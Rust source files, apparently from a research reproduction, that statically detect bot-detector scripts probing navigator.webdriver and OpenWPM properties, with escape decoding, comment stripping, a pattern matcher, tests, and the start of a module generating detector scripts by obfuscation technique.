            MatcherKind::Naive => 1,
            MatcherKind::Automaton => 2,
        },
        Ordering::Relaxed,
    );
}

/// The process-wide default match engine. First use consults
/// `GULLIBLE_MATCHER` (`naive` selects the oracle; anything else, or
/// unset, the automaton). Like `GULLIBLE_ENGINE` in `jsengine`, this is a
/// documented exception to the rule that only `bench::env` parses
/// `GULLIBLE_*` names: the engine must flip for plain `cargo test` runs
/// too, where the bench knob layer never runs.
pub fn default_matcher() -> MatcherKind {
    match MATCHER.load(Ordering::Relaxed) {
        1 => MatcherKind::Naive,
        2 => MatcherKind::Automaton,
        _ => {
            let k = match std::env::var("GULLIBLE_MATCHER")
                .ok()
                .map(|v| v.to_ascii_lowercase())
                .as_deref()
            {
                Some("naive") => MatcherKind::Naive,
                _ => MatcherKind::Automaton,
            };
            set_default_matcher(k);
            k
        }
    }
}

/// The literal set and anchor guard implementing one Table 13 pattern in
/// the automaton — the semantic layer that keeps compiled matching in
/// exact parity with [`StaticPattern::matches`].
fn pattern_def(p: StaticPattern) -> PatternDef {
    match p {
        StaticPattern::WebdriverLiteral => PatternDef::substring("webdriver"),
        StaticPattern::InstrumentFingerprintingApis => {
            PatternDef::substring("instrumentFingerprintingApis")
        }
        StaticPattern::GetInstrumentJs => PatternDef::substring("getInstrumentJS"),
        StaticPattern::JsInstruments => PatternDef::substring("jsInstruments"),
        StaticPattern::WebdriverUndelimited => PatternDef::undelimited("webdriver", b"_-"),
        StaticPattern::NavigatorDotWebdriver => PatternDef::substring("navigator.webdriver"),
        StaticPattern::NavigatorIndexedWebdriver => {
            PatternDef::alternation(&[r#"navigator["webdriver"]"#, "navigator['webdriver']"])
        }
    }
}

/// The production pattern set [`classify_with`] drives: the five
/// precision patterns behind [`StaticFinding`], plus the naive bare
/// literal that feeds the `static_identified` (false-positive-prone)
/// column of Table 5. Order defines the automaton's result bits.
const PRODUCTION_SET: &[StaticPattern] = &[
    StaticPattern::NavigatorDotWebdriver,
    StaticPattern::NavigatorIndexedWebdriver,
    StaticPattern::GetInstrumentJs,
    StaticPattern::InstrumentFingerprintingApis,
    StaticPattern::JsInstruments,
    StaticPattern::WebdriverLiteral,
];

/// Compile a pattern set under the `detect.static.build` phase, counting
/// the catalogue size once per compiled set.
fn build_set(pats: &[StaticPattern]) -> CompiledMatcher {
    let _ph = obs::prof::enter(&obs::prof::DETECT_STATIC_BUILD);
    let defs: Vec<PatternDef> = pats.iter().map(|p| pattern_def(*p)).collect();
    let m = CompiledMatcher::build(&defs);
    obs::add("match.patterns", pats.len() as u64);
    m
}

fn production_matcher() -> &'static CompiledMatcher {
    static M: OnceLock<CompiledMatcher> = OnceLock::new();
    M.get_or_init(|| build_set(PRODUCTION_SET))
}

fn table13_matcher() -> &'static CompiledMatcher {
    static M: OnceLock<CompiledMatcher> = OnceLock::new();
    M.get_or_init(|| build_set(StaticPattern::all()))
}

/// Match one Table 13 pattern against preprocessed source under an
/// explicit engine — the ablation entry point Table 13 regeneration uses.
pub fn pattern_matches_with(kind: MatcherKind, pat: StaticPattern, pre: &str) -> bool {
    match kind {
        MatcherKind::Naive => pat.matches(pre),
        MatcherKind::Automaton => {
            let idx = StaticPattern::all()
                .iter()
                .position(|p| *p == pat)
                .expect("every pattern is in the Table 13 set");
            table13_matcher().scan(pre).matched(idx)
        }
    }
}

/// [`pattern_matches_with`] under the process default engine.
pub fn pattern_matches(pat: StaticPattern, pre: &str) -> bool {
    pattern_matches_with(default_matcher(), pat, pre)
}

/// Preprocess a script: decode `\xNN` / `\uNNNN` escapes and strip
/// comments, undoing the "straightforward obfuscation" the paper's
/// pipeline handles (Sec. 4.1.3, *Preprocessing for static analysis*).
pub fn preprocess(src: &str) -> String {
    strip_comments(&decode_escapes(src))
}

/// Decode hex and unicode escapes wherever they appear.
pub fn decode_escapes(src: &str) -> String {
    let bytes = src.as_bytes();
    let mut out = String::with_capacity(src.len());
    let mut i = 0;
    // Only slice when the escape body is all ASCII hex digits — a `\x`
    // followed by multi-byte UTF-8 must pass through untouched.
    let hex_run = |start: usize, len: usize| -> Option<&str> {
        let end = start + len;
        if end <= bytes.len() && bytes[start..end].iter().all(u8::is_ascii_hexdigit) {
            Some(&src[start..end])
        } else {
            None
        }
    };
    while i < bytes.len() {
        if bytes[i] == b'\\' && bytes.get(i + 1) == Some(&b'x') {
            if let Some(hex) = hex_run(i + 2, 2) {
                if let Ok(v) = u8::from_str_radix(hex, 16) {
                    if v.is_ascii() {
                        out.push(v as char);
                        i += 4;
                        continue;
                    }
                }
            }
        }
        if bytes[i] == b'\\' && bytes.get(i + 1) == Some(&b'u') {
            if let Some(hex) = hex_run(i + 2, 4) {
                if let Ok(v) = u32::from_str_radix(hex, 16) {
                    if let Some(c) = char::from_u32(v) {
                        out.push(c);
                        i += 6;
                        continue;
                    }
                }
            }
        }
        // Copy one UTF-8 scalar.
        let ch = src[i..].chars().next().unwrap();
        out.push(ch);
        i += ch.len_utf8();
    }
    out
}

/// Remove `//` and `/* */` comments, preserving string literals.
///
/// Tracks a context stack so escaped quotes (`\"`, `\'`) never terminate a
/// string early, non-ASCII characters survive verbatim everywhere, and
/// template literals nest correctly: a `${ … }` interpolation re-enters
/// code context (comments inside it are stripped, strings and further
/// templates inside it are preserved).
pub fn strip_comments(src: &str) -> String {
    let chars: Vec<char> = src.chars().collect();
    let mut out = String::with_capacity(src.len());
    /// Parser context. `Code(None)` is top-level source; `Code(Some(d))` a
    /// template-interpolation body with `d` open braces beyond its `${`.
    #[derive(Clone, Copy)]
    enum Ctx {
        Code(Option<u32>),
        Str(char),
        Template,
    }
    let mut stack = vec![Ctx::Code(None)];
    let mut i = 0;
    while i < chars.len() {
        let c = chars[i];
        match *stack.last().expect("context stack never empties") {
            Ctx::Code(depth) => {
                if c == '"' || c == '\'' {
                    stack.push(Ctx::Str(c));
                    out.push(c);
                    i += 1;
                } else if c == '`' {
                    stack.push(Ctx::Template);
                    out.push(c);
                    i += 1;
                } else if c == '/' && chars.get(i + 1) == Some(&'/') {
                    while i < chars.len() && chars[i] != '\n' {
                        i += 1;
                    }
                } else if c == '/' && chars.get(i + 1) == Some(&'*') {
                    i += 2;
                    while i + 1 < chars.len() && !(chars[i] == '*' && chars[i + 1] == '/') {
                        i += 1;
                    }
                    i = (i + 2).min(chars.len());
                } else {
                    if c == '{' {
                        if let Some(d) = depth {
                            *stack.last_mut().unwrap() = Ctx::Code(Some(d + 1));
                        }
                    } else if c == '}' {
                        match depth {
                            // The `}` closing the interpolation: back into
                            // the surrounding template literal.
                            Some(0) => {
                                stack.pop();
                            }
                            Some(d) => *stack.last_mut().unwrap() = Ctx::Code(Some(d - 1)),
                            None => {}
                        }
                    }
                    out.push(c);
                    i += 1;
                }
            }
            Ctx::Str(q) => {
                out.push(c);
                if c == '\\' && i + 1 < chars.len() {
                    out.push(chars[i + 1]);
                    i += 2;
                    continue;
                }
                if c == q {
                    stack.pop();
                }
                i += 1;
            }
            Ctx::Template => {
                if c == '\\' && i + 1 < chars.len() {
                    out.push(c);
                    out.push(chars[i + 1]);
                    i += 2;
                } else if c == '$' && chars.get(i + 1) == Some(&'{') {
                    out.push_str("${");
                    stack.push(Ctx::Code(Some(0)));
                    i += 2;
                } else {
                    out.push(c);
                    if c == '`' {
                        stack.pop();
                    }
                    i += 1;
                }
            }
        }
    }
    out
}

/// Result of statically analysing one script with the final pattern set
/// (the non-FP-prone patterns the paper settled on).
#[derive(Clone, Debug, Default, PartialEq)]
pub struct StaticFinding {
    /// Script probes `navigator.webdriver` (Selenium detector).
    pub selenium: bool,
    /// OpenWPM-specific property names found.
    pub openwpm_props: Vec<&'static str>,
}

impl StaticFinding {
    pub fn is_detector(&self) -> bool {
        self.selenium || !self.openwpm_props.is_empty()
    }
}

/// Full static verdict for one script: the production finding plus the
/// naive bare-`webdriver` flag (the Table 5 "identified" numerator input),
/// both derived from one preprocessing pass.
#[derive(Clone, Debug, Default, PartialEq)]
pub struct ScriptVerdict {
    pub finding: StaticFinding,
    /// The false-positive-prone [`StaticPattern::WebdriverLiteral`]
    /// matched.
    pub naive_webdriver: bool,
}

/// Evaluate the production set over preprocessed source with independent
/// per-pattern passes (the reference oracle).
fn verdict_naive(pre: &str) -> ScriptVerdict {
    let selenium = StaticPattern::NavigatorDotWebdriver.matches(pre)
        || StaticPattern::NavigatorIndexedWebdriver.matches(pre);
    let mut openwpm_props = Vec::new();
    for (pat, name) in [
        (StaticPattern::GetInstrumentJs, "getInstrumentJS"),
        (StaticPattern::InstrumentFingerprintingApis, "instrumentFingerprintingApis"),
        (StaticPattern::JsInstruments, "jsInstruments"),
    ] {
        if pat.matches(pre) {
            openwpm_props.push(name);
        }
    }
    let naive_webdriver = StaticPattern::WebdriverLiteral.matches(pre);
    ScriptVerdict { finding: StaticFinding { selenium, openwpm_props }, naive_webdriver }
}

/// Evaluate the production set in one automaton pass. Bit positions follow
/// [`PRODUCTION_SET`]; the property-name push order matches
/// [`verdict_naive`] exactly so verdicts compare equal structurally.
fn verdict_automaton(pre: &str) -> ScriptVerdict {
    let set = production_matcher().scan(pre);
    obs::add("match.candidate_hits", set.stats.candidate_hits);
    obs::add("match.confirmed_hits", set.stats.confirmed_hits);
    let selenium = set.matched(0) || set.matched(1);
    let mut openwpm_props = Vec::new();
    for (idx, name) in [
        (2, "getInstrumentJS"),
        (3, "instrumentFingerprintingApis"),
        (4, "jsInstruments"),
    ] {
        if set.matched(idx) {
            openwpm_props.push(name);
        }
    }
    ScriptVerdict {
        finding: StaticFinding { selenium, openwpm_props },
        naive_webdriver: set.matched(5),
    }
}

/// Matching-only entry point over *already preprocessed* source — the
/// timed region of `bench --bin ablation_matcher` (preprocessing is
/// engine-independent and excluded from the throughput comparison).
pub fn match_preprocessed(kind: MatcherKind, pre: &str) -> ScriptVerdict {
    match kind {
        MatcherKind::Naive => verdict_naive(pre),
        MatcherKind::Automaton => verdict_automaton(pre),
    }
}

/// Classify one script under an explicit engine: preprocess, then one
/// scan of the production set.
pub fn classify_with(kind: MatcherKind, src: &str) -> ScriptVerdict {
    let _ph = obs::prof::enter(&obs::prof::DETECT_STATIC);
    let pre = preprocess(src);
    let _ps = obs::prof::enter(&obs::prof::DETECT_STATIC_SCAN);
    obs::add("match.scripts", 1);
    obs::add("match.bytes", pre.len() as u64);
    match kind {
        MatcherKind::Naive => verdict_naive(&pre),
        MatcherKind::Automaton => verdict_automaton(&pre),
    }
}

/// Classify one script under the process default engine (not memoised).
pub fn classify(src: &str) -> ScriptVerdict {
    classify_with(default_matcher(), src)
}

const MEMO_STRIPES: usize = 16;

fn verdict_memo() -> &'static [Mutex<HashMap<u64, ScriptVerdict>>; MEMO_STRIPES] {
    static MEMO: OnceLock<[Mutex<HashMap<u64, ScriptVerdict>>; MEMO_STRIPES]> = OnceLock::new();
    MEMO.get_or_init(|| std::array::from_fn(|_| Mutex::new(HashMap::new())))
}

/// Classify one script, memoised by its FNV-64 body hash (the script
/// identity the scan already computes). Scripts are shared across sites
/// and subpages, so each distinct body is preprocessed and scanned once
/// per process; repeats are a map lookup. Verdicts are a deterministic
/// function of the body, so the memo is invisible in every measured
/// artifact — only the digest-excluded `match.memo.{hit,miss}` split
/// moves with scheduling.
pub fn classify_memo(src: &str, body_hash: u64) -> ScriptVerdict {
    let stripe = &verdict_memo()[(body_hash as usize) & (MEMO_STRIPES - 1)];
    if let Some(v) = stripe.lock().unwrap_or_else(|e| e.into_inner()).get(&body_hash) {
        obs::add("match.memo.hit", 1);
        return v.clone();
    }
    obs::add("match.memo.miss", 1);
    // Classify outside the stripe lock; a concurrent miss on the same body
    // computes the same verdict, and the second insert is a no-op.
    let v = classify(src);
    stripe
        .lock()
        .unwrap_or_else(|e| e.into_inner())
        .insert(body_hash, v.clone());
    v
}

/// Drop every memoised verdict. Ablations that flip the default engine
/// mid-process call this between legs so each leg actually exercises its
/// engine.
pub fn clear_verdict_memo() {
    for stripe in verdict_memo() {
        stripe.lock().unwrap_or_else(|e| e.into_inner()).clear();
    }
}

/// Analyse one script with the production pattern set.
pub fn analyse(src: &str) -> StaticFinding {
    classify(src).finding
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::corpus::{self, Technique};

    #[test]
    fn plain_and_indexed_probes_found() {
        for t in [Technique::Plain, Technique::Indexed] {
            let src = corpus::selenium_detector(t, "https://bd.test/v");
            assert!(analyse(&src).selenium, "{t:?}");
        }
    }

    #[test]
    fn hex_escaped_probe_found_after_preprocessing() {
        let src = corpus::selenium_detector(Technique::HexEscaped, "https://bd.test/v");
        // Raw match fails…
        assert!(!StaticPattern::NavigatorIndexedWebdriver.matches(&src));
        // …the pipeline decodes it.
        assert!(analyse(&src).selenium);
    }

    #[test]
    fn constructed_probe_invisible_statically() {
        let src = corpus::selenium_detector(Technique::Constructed, "https://bd.test/v");
        assert!(!analyse(&src).selenium);
    }

    #[test]
    fn hover_gated_probe_found_statically() {
        // "Present but unexecuted" code is exactly what static analysis
        // catches and dynamic analysis misses.
        let src = corpus::selenium_detector(Technique::HoverGated, "https://bd.test/v");
        assert!(analyse(&src).selenium);
    }

    #[test]
    fn benign_webdriver_mentions_do_not_trip_precise_patterns() {
        let src = corpus::benign_webdriver_mention();
        let f = analyse(&src);
        assert!(!f.is_detector());
        // Naive patterns do trip — the Table 13 false positives.
        let pre = preprocess(&src);
        assert!(StaticPattern::WebdriverLiteral.matches(&pre));
        assert!(StaticPattern::WebdriverUndelimited.matches(&src));
    }

    #[test]
    fn underscore_delimited_webdriver_excluded_by_undelimited_pattern() {
        assert!(!StaticPattern::WebdriverUndelimited.matches("var x = my_webdriver_flag;"));
        assert!(StaticPattern::WebdriverUndelimited.matches("check(navigator.webdriver);"));
    }

    #[test]
    fn openwpm_props_found() {
        let src = corpus::openwpm_detector(
            &["jsInstruments", "getInstrumentJS"],
            Technique::Plain,
            "https://cheqzone.com/v",
        );
        let f = analyse(&src);
        assert_eq!(f.openwpm_props, vec!["getInstrumentJS", "jsInstruments"]);
        assert!(f.is_detector());
    }

    #[test]
    fn constructed_openwpm_probe_invisible() {
        let src = corpus::openwpm_detector(
            &["instrumentFingerprintingApis"],
            Technique::Constructed,
            "https://google.com/recaptcha/v",
        );
        assert!(analyse(&src).openwpm_props.is_empty());
    }

    #[test]
    fn comment_stripping_preserves_strings() {
        let src = "var a = 'http://x/*not a comment*/'; // real comment\nvar b = 1;";
        let out = strip_comments(src);
        assert!(out.contains("not a comment"));
        assert!(!out.contains("real comment"));
    }

    #[test]
    fn escape_decoding() {
        assert_eq!(decode_escapes(r"\x77\x65\x62"), "web");
        assert_eq!(decode_escapes(r"webdriver"), "webdriver");
        assert_eq!(decode_escapes("plain"), "plain");
        // Invalid escapes survive untouched.
        assert_eq!(decode_escapes(r"\xZZ"), r"\xZZ");
    }

    #[test]
    fn escaped_quotes_do_not_terminate_strings() {
        // The \" must not close the string: the // inside is string
        // content, not a comment.
        let src = r#"var a = "she said \"hi\" // not a comment"; var b = 2;"#;
        let out = strip_comments(src);
        assert_eq!(out, src, "escaped double quote ended the string early");
        let src = r#"var a = 'it\'s // still a string'; var b = 2;"#;
        assert_eq!(strip_comments(src), src, "escaped single quote ended the string early");
        // A lone backslash before the closing quote is itself escaped.
        let src = r#"var p = "C:\\"; // trailing comment"#;
        let out = strip_comments(src);
        assert!(out.contains(r#""C:\\""#));
        assert!(!out.contains("trailing comment"));
    }

    #[test]
    fn non_ascii_string_content_survives_verbatim() {
        // The old byte-wise stripper pushed raw UTF-8 bytes as chars,
        // turning 'café' into mojibake. Characters must round-trip.
        let src = "var msg = 'café ☕'; // strip me\nvar x = 1;";
        let out = strip_comments(src);
        assert!(out.contains("café ☕"), "non-ASCII string content mangled: {out}");
        assert!(!out.contains("strip me"));
    }

    #[test]
    fn template_literal_contents_preserved() {
        let src = "var t = `http://x/*not a comment*/ and // neither`;";
        assert_eq!(strip_comments(src), src);
        // Escaped backtick stays inside the template.
        let src = r"var t = `a \` b`; // gone";
        let out = strip_comments(src);
        assert!(out.contains(r"`a \` b`"));
        assert!(!out.contains("gone"));
    }

    #[test]
    fn template_interpolation_reenters_code_context() {
        // A comment inside ${ … } is code context and must be stripped;
        // the template text around it must survive.
        let src = "var t = `pre ${ x /* inner comment */ + 1 } post`;";
        let out = strip_comments(src);
        assert!(!out.contains("inner comment"));
        assert!(out.contains("pre ${ x  + 1 } post"), "got: {out}");
        // Braces inside the interpolation nest; the template's own close
        // brace is found correctly and `post // text` stays template text.
        let src = "var t = `a ${ f({k: 1}) } b // still template`;";
        let out = strip_comments(src);
        assert!(out.contains("b // still template"));
        // A string inside the interpolation can contain a backtick without
        // ending the template.
        let src = "var t = `a ${ '`' } b`; // real comment";
        let out = strip_comments(src);
        assert!(out.contains("} b`"));
        assert!(!out.contains("real comment"));
    }

    #[test]
    fn preprocess_decodes_then_strips() {
        // Pipeline order lock: escapes decode first, then comments strip.
        // A probe hidden behind hex escapes inside live code surfaces…
        let src = r"if (navigator.\x77ebdriver) {}";
        assert!(preprocess(src).contains("navigator.webdriver"));
        // …and one inside a comment is stripped after decoding.
        let src = r"// navigator.\x77ebdriver";
        assert!(!preprocess(src).contains("webdriver"));
        // Decoding can materialise a quote (\x22 -> ") that then delimits
        // a string during stripping — locked in as current behaviour.
        let src = "var q = \\x22; // comment";
        let out = preprocess(src);
        assert_eq!(out, "var q = \"; // comment");
    }

    #[test]
    fn comments_hiding_probes_are_removed() {
        // A probe inside a comment must NOT count…
        let src = "// navigator.webdriver\nvar x = 1;";
        assert!(!analyse(src).selenium);
        // …but a commented file with a live probe still matches.
        let src = "/* header */ if (navigator.webdriver) { flag(); }";
        assert!(analyse(src).selenium);
    }
}
