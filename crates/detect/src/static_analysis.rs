//! Static analysis of collected scripts (paper Sec. 4.1 + Appx. B).
//!
//! Pipeline: preprocess (decode hex/unicode escapes, strip comments) then
//! match the patterns of Table 13. The paper iterated on pattern design to
//! kill false positives — the naive literal `webdriver` matches benign
//! strings, while the context-aware `navigator.webdriver` /
//! `navigator["webdriver"]` forms do not. All evaluated patterns are
//! implemented so Table 13 can be regenerated.

/// The patterns evaluated in Appx. B (Table 13), in paper order.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum StaticPattern {
    /// Bare literal `webdriver` — false-positive prone.
    WebdriverLiteral,
    /// `instrumentFingerprintingApis`.
    InstrumentFingerprintingApis,
    /// `getInstrumentJS`.
    GetInstrumentJs,
    /// `jsInstruments`.
    JsInstruments,
    /// `webdriver` not adjacent to `_` or `-` — still false-positive prone.
    WebdriverUndelimited,
    /// `navigator.webdriver`.
    NavigatorDotWebdriver,
    /// `navigator["webdriver"]` / `navigator['webdriver']`.
    NavigatorIndexedWebdriver,
}

impl StaticPattern {
    pub fn all() -> &'static [StaticPattern] {
        &[
            StaticPattern::WebdriverLiteral,
            StaticPattern::InstrumentFingerprintingApis,
            StaticPattern::GetInstrumentJs,
            StaticPattern::JsInstruments,
            StaticPattern::WebdriverUndelimited,
            StaticPattern::NavigatorDotWebdriver,
            StaticPattern::NavigatorIndexedWebdriver,
        ]
    }

    pub fn name(&self) -> &'static str {
        match self {
            StaticPattern::WebdriverLiteral => "webdriver",
            StaticPattern::InstrumentFingerprintingApis => "instrumentFingerprintingApis",
            StaticPattern::GetInstrumentJs => "getInstrumentJS",
            StaticPattern::JsInstruments => "jsInstruments",
            StaticPattern::WebdriverUndelimited => "(?<!_|-)webdriver(?!_|-)",
            StaticPattern::NavigatorDotWebdriver => "navigator.webdriver",
            StaticPattern::NavigatorIndexedWebdriver => r#"navigator\[["']webdriver["']\]"#,
        }
    }

    /// Whether the paper found this pattern to produce false positives.
    pub fn fp_prone(&self) -> bool {
        matches!(self, StaticPattern::WebdriverLiteral | StaticPattern::WebdriverUndelimited)
    }

    /// Match against *preprocessed* source.
    pub fn matches(&self, src: &str) -> bool {
        match self {
            StaticPattern::WebdriverLiteral => src.contains("webdriver"),
            StaticPattern::InstrumentFingerprintingApis => {
                src.contains("instrumentFingerprintingApis")
            }
            StaticPattern::GetInstrumentJs => src.contains("getInstrumentJS"),
            StaticPattern::JsInstruments => src.contains("jsInstruments"),
            StaticPattern::WebdriverUndelimited => {
                find_all(src, "webdriver").into_iter().any(|i| {
                    let before = src[..i].chars().next_back();
                    let after = src[i + "webdriver".len()..].chars().next();
                    !matches!(before, Some('_') | Some('-'))
                        && !matches!(after, Some('_') | Some('-'))
                })
            }
            StaticPattern::NavigatorDotWebdriver => src.contains("navigator.webdriver"),
            StaticPattern::NavigatorIndexedWebdriver => {
                src.contains(r#"navigator["webdriver"]"#) || src.contains("navigator['webdriver']")
            }
        }
    }
}

fn find_all(haystack: &str, needle: &str) -> Vec<usize> {
    let mut out = Vec::new();
    let mut start = 0;
    while let Some(i) = haystack[start..].find(needle) {
        out.push(start + i);
        start += i + 1;
    }
    out
}

/// Preprocess a script: decode `\xNN` / `\uNNNN` escapes and strip
/// comments, undoing the "straightforward obfuscation" the paper's
/// pipeline handles (Sec. 4.1.3, *Preprocessing for static analysis*).
pub fn preprocess(src: &str) -> String {
    strip_comments(&decode_escapes(src))
}

/// Decode hex and unicode escapes wherever they appear.
pub fn decode_escapes(src: &str) -> String {
    let bytes = src.as_bytes();
    let mut out = String::with_capacity(src.len());
    let mut i = 0;
    // Only slice when the escape body is all ASCII hex digits — a `\x`
    // followed by multi-byte UTF-8 must pass through untouched.
    let hex_run = |start: usize, len: usize| -> Option<&str> {
        let end = start + len;
        if end <= bytes.len() && bytes[start..end].iter().all(u8::is_ascii_hexdigit) {
            Some(&src[start..end])
        } else {
            None
        }
    };
    while i < bytes.len() {
        if bytes[i] == b'\\' && bytes.get(i + 1) == Some(&b'x') {
            if let Some(hex) = hex_run(i + 2, 2) {
                if let Ok(v) = u8::from_str_radix(hex, 16) {
                    if v.is_ascii() {
                        out.push(v as char);
                        i += 4;
                        continue;
                    }
                }
            }
        }
        if bytes[i] == b'\\' && bytes.get(i + 1) == Some(&b'u') {
            if let Some(hex) = hex_run(i + 2, 4) {
                if let Ok(v) = u32::from_str_radix(hex, 16) {
                    if let Some(c) = char::from_u32(v) {
                        out.push(c);
                        i += 6;
                        continue;
                    }
                }
            }
        }
        // Copy one UTF-8 scalar.
        let ch = src[i..].chars().next().unwrap();
        out.push(ch);
        i += ch.len_utf8();
    }
    out
}

/// Remove `//` and `/* */` comments, preserving string literals.
pub fn strip_comments(src: &str) -> String {
    let bytes = src.as_bytes();
    let mut out = String::with_capacity(src.len());
    let mut i = 0;
    let mut in_string: Option<u8> = None;
    while i < bytes.len() {
        let c = bytes[i];
        match in_string {
            Some(q) => {
                out.push(c as char);
                if c == b'\\' && i + 1 < bytes.len() {
                    out.push(bytes[i + 1] as char);
                    i += 2;
                    continue;
                }
                if c == q {
                    in_string = None;
                }
                i += 1;
            }
            None => {
                if c == b'"' || c == b'\'' || c == b'`' {
                    in_string = Some(c);
                    out.push(c as char);
                    i += 1;
                } else if c == b'/' && bytes.get(i + 1) == Some(&b'/') {
                    while i < bytes.len() && bytes[i] != b'\n' {
                        i += 1;
                    }
                } else if c == b'/' && bytes.get(i + 1) == Some(&b'*') {
                    i += 2;
                    while i + 1 < bytes.len() && !(bytes[i] == b'*' && bytes[i + 1] == b'/') {
                        i += 1;
                    }
                    i = (i + 2).min(bytes.len());
                } else {
                    // Non-ASCII bytes are copied through verbatim.
                    let ch = src[i..].chars().next().unwrap();
                    out.push(ch);
                    i += ch.len_utf8();
                }
            }
        }
    }
    out
}

/// Result of statically analysing one script with the final pattern set
/// (the non-FP-prone patterns the paper settled on).
#[derive(Clone, Debug, Default, PartialEq)]
pub struct StaticFinding {
    /// Script probes `navigator.webdriver` (Selenium detector).
    pub selenium: bool,
    /// OpenWPM-specific property names found.
    pub openwpm_props: Vec<&'static str>,
}

impl StaticFinding {
    pub fn is_detector(&self) -> bool {
        self.selenium || !self.openwpm_props.is_empty()
    }
}

/// Analyse one script with the production pattern set.
pub fn analyse(src: &str) -> StaticFinding {
    let _ph = obs::prof::enter(&obs::prof::DETECT_STATIC);
    let pre = preprocess(src);
    let selenium = StaticPattern::NavigatorDotWebdriver.matches(&pre)
        || StaticPattern::NavigatorIndexedWebdriver.matches(&pre);
    let mut openwpm_props = Vec::new();
    for (pat, name) in [
        (StaticPattern::GetInstrumentJs, "getInstrumentJS"),
        (StaticPattern::InstrumentFingerprintingApis, "instrumentFingerprintingApis"),
        (StaticPattern::JsInstruments, "jsInstruments"),
    ] {
        if pat.matches(&pre) {
            openwpm_props.push(name);
        }
    }
    StaticFinding { selenium, openwpm_props }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::corpus::{self, Technique};

    #[test]
    fn plain_and_indexed_probes_found() {
        for t in [Technique::Plain, Technique::Indexed] {
            let src = corpus::selenium_detector(t, "https://bd.test/v");
            assert!(analyse(&src).selenium, "{t:?}");
        }
    }

    #[test]
    fn hex_escaped_probe_found_after_preprocessing() {
        let src = corpus::selenium_detector(Technique::HexEscaped, "https://bd.test/v");
        // Raw match fails…
        assert!(!StaticPattern::NavigatorIndexedWebdriver.matches(&src));
        // …the pipeline decodes it.
        assert!(analyse(&src).selenium);
    }

    #[test]
    fn constructed_probe_invisible_statically() {
        let src = corpus::selenium_detector(Technique::Constructed, "https://bd.test/v");
        assert!(!analyse(&src).selenium);
    }

    #[test]
    fn hover_gated_probe_found_statically() {
        // "Present but unexecuted" code is exactly what static analysis
        // catches and dynamic analysis misses.
        let src = corpus::selenium_detector(Technique::HoverGated, "https://bd.test/v");
        assert!(analyse(&src).selenium);
    }

    #[test]
    fn benign_webdriver_mentions_do_not_trip_precise_patterns() {
        let src = corpus::benign_webdriver_mention();
        let f = analyse(&src);
        assert!(!f.is_detector());
        // Naive patterns do trip — the Table 13 false positives.
        let pre = preprocess(&src);
        assert!(StaticPattern::WebdriverLiteral.matches(&pre));
        assert!(StaticPattern::WebdriverUndelimited.matches(&src));
    }

    #[test]
    fn underscore_delimited_webdriver_excluded_by_undelimited_pattern() {
        assert!(!StaticPattern::WebdriverUndelimited.matches("var x = my_webdriver_flag;"));
        assert!(StaticPattern::WebdriverUndelimited.matches("check(navigator.webdriver);"));
    }

    #[test]
    fn openwpm_props_found() {
        let src = corpus::openwpm_detector(
            &["jsInstruments", "getInstrumentJS"],
            Technique::Plain,
            "https://cheqzone.com/v",
        );
        let f = analyse(&src);
        assert_eq!(f.openwpm_props, vec!["getInstrumentJS", "jsInstruments"]);
        assert!(f.is_detector());
    }

    #[test]
    fn constructed_openwpm_probe_invisible() {
        let src = corpus::openwpm_detector(
            &["instrumentFingerprintingApis"],
            Technique::Constructed,
            "https://google.com/recaptcha/v",
        );
        assert!(analyse(&src).openwpm_props.is_empty());
    }

    #[test]
    fn comment_stripping_preserves_strings() {
        let src = "var a = 'http://x/*not a comment*/'; // real comment\nvar b = 1;";
        let out = strip_comments(src);
        assert!(out.contains("not a comment"));
        assert!(!out.contains("real comment"));
    }

    #[test]
    fn escape_decoding() {
        assert_eq!(decode_escapes(r"\x77\x65\x62"), "web");
        assert_eq!(decode_escapes(r"webdriver"), "webdriver");
        assert_eq!(decode_escapes("plain"), "plain");
        // Invalid escapes survive untouched.
        assert_eq!(decode_escapes(r"\xZZ"), r"\xZZ");
    }

    #[test]
    fn comments_hiding_probes_are_removed() {
        // A probe inside a comment must NOT count…
        let src = "// navigator.webdriver\nvar x = 1;";
        assert!(!analyse(src).selenium);
        // …but a commented file with a live probe still matches.
        let src = "/* header */ if (navigator.webdriver) { flag(); }";
        assert!(analyse(src).selenium);
    }
}
