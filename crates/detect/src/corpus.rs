//! The detector-script corpus.
//!
//! MiniJS sources for every class of bot detector the paper encounters in
//! the wild (Sec. 4), parameterised by probing technique and obfuscation
//! tier. The tiers map onto the analysis-method coverage the paper
//! measures:
//!
//! * **Plain** probes — found by both static and dynamic analysis;
//! * **Hex-escaped** probes — static analysis finds them only thanks to its
//!   preprocessing (Appx. B);
//! * **Constructed** probes (string concatenation / `fromCharCode`) —
//!   invisible to static patterns, found only dynamically;
//! * **Hover-gated** probes — present in the source but never executed
//!   during an automated visit: static-only findings;
//! * **Iterator** scripts — generic fingerprinting via property iteration;
//!   they touch the fingerprint surface *incidentally* and are the false
//!   positives the honey-property mechanism (Sec. 4.1.3) weeds out.

/// How a detector reaches the `webdriver` / OpenWPM properties.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum Technique {
    /// `navigator.webdriver` — plain member access.
    Plain,
    /// `navigator['webdriver']` — indexed but literal.
    Indexed,
    /// `navigator['\x77\x65\x62...']` — hex-escaped literal; static
    /// analysis recovers it after escape decoding.
    HexEscaped,
    /// `navigator['web' + 'driver']` — constructed at runtime; static
    /// analysis cannot see it.
    Constructed,
    /// Probe exists but only fires on user interaction (hover); executed
    /// never during an automated visit — static-only.
    HoverGated,
}

impl Technique {
    pub fn all() -> &'static [Technique] {
        &[
            Technique::Plain,
            Technique::Indexed,
            Technique::HexEscaped,
            Technique::Constructed,
            Technique::HoverGated,
        ]
    }

    /// Expected analysis coverage (static, dynamic) for this technique —
    /// the ground truth the analysis-validation tests check against.
    pub fn expected_coverage(&self) -> (bool, bool) {
        match self {
            Technique::Plain | Technique::Indexed | Technique::HexEscaped => (true, true),
            Technique::Constructed => (false, true),
            Technique::HoverGated => (true, false),
        }
    }

    /// The MiniJS expression reading `navigator.webdriver`.
    fn webdriver_expr(&self) -> &'static str {
        match self {
            Technique::Plain => "navigator.webdriver",
            Technique::Indexed => "navigator['webdriver']",
            Technique::HexEscaped => r"navigator['\x77\x65\x62\x64\x72\x69\x76\x65\x72']",
            // Hover-gated probes are plain (statically visible) — they are
            // the "present but not executed" class.
            Technique::Constructed => "navigator['web' + 'driver']",
